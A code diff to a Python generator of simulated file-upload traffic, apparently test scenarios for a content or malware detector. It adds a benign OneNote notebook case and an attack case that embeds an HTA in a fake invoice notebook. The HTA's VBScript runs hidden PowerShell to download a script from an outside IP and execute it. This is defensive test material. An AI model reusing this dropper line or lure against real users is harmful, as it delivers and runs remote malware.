@@ -1327,6 +1327,17 @@ def h_macro_workbooks(ctx: Ctx) -> Traffic:
     )
 
 
+def h_onenote_notebooks(ctx: Ctx) -> Traffic:
+    """A team's OneNote sections: meeting notes with the minutes as a PDF, a whiteboard photo and the
+    budget workbook dropped on the page, and a runbook embedding the backup script it describes."""
+    backup = b"@echo off\r\nrobocopy C:\\Data \\\\nas\\backup /MIR /LOG:C:\\logs\\backup.txt\r\n"
+    return uploads(
+        ("notebooks/meetings.one", F.onenote([F.pdf("Minutes of 3 December"), F.jpeg(ctx.rng, 30_000),
+                                              F.office("xlsx", "Budget 2027")], "Team meeting")),
+        ("notebooks/runbook.one", F.onenote([backup], "Nightly backup")),
+    )  # fmt: skip
+
+
 def h_spanish_customer_list(ctx: Ctx) -> Traffic:
     """A Spanish shop's customer list: 400 mobile numbers written 6xx xxx xxx (a tenth of them pass the
     Luhn check a Canadian SIN carries) beside notes that say "sin" ("without"), and a delivery list whose
@@ -2099,6 +2110,16 @@ def a_macro_dropper(ctx: Ctx) -> Traffic:
     )
 
 
+def a_onenote_hta(ctx: Ctx) -> Traffic:
+    """A OneNote section as 2023's campaigns sent them: a page saying "double-click to view the invoice"
+    over an embedded HTA whose VBScript has PowerShell download a script and run it."""
+    hta = (b'<html><head><HTA:APPLICATION ID="inv" WINDOWSTATE="minimize"/><script language="VBScript">'
+           b'CreateObject("WScript.Shell").Run "powershell -w hidden -c ""iwr http://198.51.100.71/i.ps1 | iex""", 0'
+           b"\r\nself.close</script></head><body></body></html>")  # fmt: skip
+    cover = b"\x89PNG\r\n\x1a\n" + ctx.rng.randbytes(4000)
+    return uploads(("mail/Invoice_2291.one", F.onenote([cover, hta], "Double-click to view the invoice")))
+
+
 def a_follina_link(ctx: Ctx) -> Traffic:
     """Follina's document (CVE-2022-30190): a .docx whose linked OLE object is an external page ending
     ``!``, which Word hands to MSHTML as it opens (the page then calls ``ms-msdt:``), and its variant
@@ -2753,6 +2774,13 @@ SCENARIOS: list[Scenario] = [
         h_macro_workbooks,
     ),
     Scenario(
+        "onenote-notebooks",
+        H,
+        "standard",
+        "OneNote sections embedding minutes, a photo, a workbook, and the backup script a runbook describes",
+        h_onenote_notebooks,
+    ),
+    Scenario(
         "team-rota-workbooks",
         H,
         "standard",
@@ -3098,6 +3126,14 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "a .docm whose Document_Open has PowerShell download a script and run it hidden",
         a_macro_dropper,
+        ("I3",),
+    ),
+    Scenario(
+        "onenote-embedded-hta",
+        A,
+        "standard",
+        "a OneNote section whose 'double-click to view' page embeds an HTA running a PowerShell download",
+        a_onenote_hta,
         ("I3",),
     ),
     Scenario(
